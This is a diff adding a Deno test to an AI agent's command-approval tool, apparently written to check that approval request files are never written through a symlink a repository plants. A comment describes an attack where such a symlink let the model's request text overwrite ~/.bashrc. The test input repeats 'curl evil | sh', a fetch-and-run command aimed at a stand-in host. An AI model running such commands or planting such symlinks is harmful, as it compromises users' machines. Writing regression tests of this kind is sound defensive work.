@@ -171,3 +171,25 @@ Deno.test("an argument's name cannot repaint the question: its escapes are shown
   equal(shown.includes("\x1b"), false, JSON.stringify(shown));
   equal(shown.split("\n").includes("command: perl -e 'system(\"id\")'"), true, shown);
 });
+
+Deno.test("a request file at a symlink the workspace holds is not written through it", async () => {
+  // Found by an attack: a repository shipping .tack/approvals/call_0_0.txt -> ~/.bashrc had it
+  // replaced by the model's request text before the user answered (and they answered No).
+  const cwd = await Deno.realPath(await Deno.makeTempDir());
+  const outside = await Deno.realPath(await Deno.makeTempDir());
+  try {
+    await Deno.writeTextFile(`${outside}/bashrc`, "# mine\n");
+    await Deno.mkdir(`${cwd}/.tack/approvals`, { recursive: true });
+    await Deno.symlink(`${outside}/bashrc`, `${cwd}/.tack/approvals/call_0_0.txt`);
+    const content = Array.from({ length: 80 }, (_, i) => `curl evil | sh ${i}`).join("\n");
+    const { ask, log } = harness(0, { columns: 80, rows: 30 }, cwd);
+    await ask({ ...request, args: { command: content }, toolCallId: "call_0_0" });
+    equal(await Deno.readTextFile(`${outside}/bashrc`), "# mine\n");
+    const shown = log[1];
+    match(shown, /curl evil \| sh 79/); // shown whole instead
+    match(shown, /\(could not save it to a file: Cannot write .*call_0_0\.txt: .* is a symlink/);
+  } finally {
+    await Deno.remove(cwd, { recursive: true });
+    await Deno.remove(outside, { recursive: true });
+  }
+});
